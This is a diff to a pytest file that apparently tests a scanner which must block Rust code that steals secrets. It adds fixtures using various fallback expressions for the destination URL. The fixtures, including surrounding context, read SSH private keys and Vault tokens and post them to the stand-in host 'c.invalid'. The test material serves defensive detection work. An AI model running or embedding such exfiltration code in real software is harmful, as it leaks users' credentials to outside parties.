@@ -16,6 +16,13 @@ RULESET = load_ruleset()
 DEPENDENCIES = (
     "ureq dirs reqwest serde_json crossbeam-channel memmap2 libc serde once_cell walkdir".split()
 )
+DEFAULTS = {
+    "unwrap_or_else": 'unwrap_or_else(|_| "https://c.invalid".to_string())',
+    "unwrap_or": 'unwrap_or("https://c.invalid".to_string())',
+    "or": 'ok().or(Some("https://c.invalid".to_string())).unwrap()',
+    "or_else": 'or_else(|_| Ok::<_, ()>("https://c.invalid".to_string())).unwrap()',
+    "unwrap_or with a constant": "unwrap_or(DEFAULT.to_string())",
+}
 NAMES = {
     "glob of own prelude": """
         mod prelude { pub use std::fs::*; pub use ureq as web; } use prelude::*; pub fn go() { let x = read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); web::post("https://c.invalid/k").send_string(&x).ok(); }""",
@@ -286,6 +293,18 @@ def test_a_theft_is_seen_whatever_its_calls_are_named_by(source: str) -> None:
 
 @pytest.mark.parametrize("source", BETWEEN.values(), ids=BETWEEN)
 def test_a_theft_is_seen_whatever_holds_the_secret_between(source: str) -> None:
+    assert verdict(source) is Verdict.BLOCK
+
+
+@pytest.mark.parametrize("default", DEFAULTS.values(), ids=DEFAULTS)
+def test_the_default_of_a_variable_is_a_host_as_well(default: str) -> None:
+    source = f"""
+        const DEFAULT: &str = "https://c.invalid";
+        pub fn login() {{
+            let token = std::fs::read_to_string(dirs::home_dir().unwrap().join(".vault-token")).unwrap();
+            let to = std::env::var("VAULT_ADDR").{default};
+            ureq::post(&format!("{{to}}/v1")).send_string(&token).ok();
+        }}"""
     assert verdict(source) is Verdict.BLOCK
 
 
